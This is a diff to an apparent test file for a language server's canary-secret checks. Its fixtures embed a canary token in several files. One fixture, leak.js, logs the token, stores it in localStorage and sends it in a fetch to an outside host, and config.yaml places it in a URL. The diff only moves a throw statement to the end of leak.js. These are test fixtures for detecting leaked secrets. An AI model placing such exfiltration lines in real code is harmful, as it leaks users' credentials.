@@ -37,7 +37,7 @@ describe('canary: the language server', function () {
     'pay.js': ['javascript', `const pay = require('pay');\nmodule.exports = pay('${canary.value}');\n`],
     'pay.py': ['python', `import pay\nTOKEN = "${canary.value}"\npay.use(TOKEN, f"Bearer ${canary.value}")\n`],
     'config.yaml': ['yaml', `pay:\n  key: ${canary.value}\n  url: https://user:${canary.value}@example.invalid/?token=${canary.value}\n`],
-    'leak.js': ['javascript', `const one = '${canary.value}';\nconsole.log(one, \`x ${canary.value}\`);\nthrow new Error('no ' + one);\nlocalStorage.setItem('${canary.value}', one);\nfetch('http://a.acme.io/?k=' + one);\nconst ${canary.value}_token = 1;\nconsole.log(${canary.value}_token);\n`],
+    'leak.js': ['javascript', `const one = '${canary.value}';\nconsole.log(one, \`x ${canary.value}\`);\nlocalStorage.setItem('${canary.value}', one);\nfetch('http://a.acme.io/?k=' + one);\nconst ${canary.value}_token = 1;\nconsole.log(${canary.value}_token);\nthrow new Error('no ' + one);\n`],
     'unclosed.ts': ['typescript', `const a = \`\${'${canary.value}\nconst b = "${canary.value}`],
     'keyward.env': ['keyward', `# ${canary.value}\nPAY_KEY=${canary.value}\n${canary.value}\n${canary.value}=x\nB=keyward://${canary.value}\n`],
   };
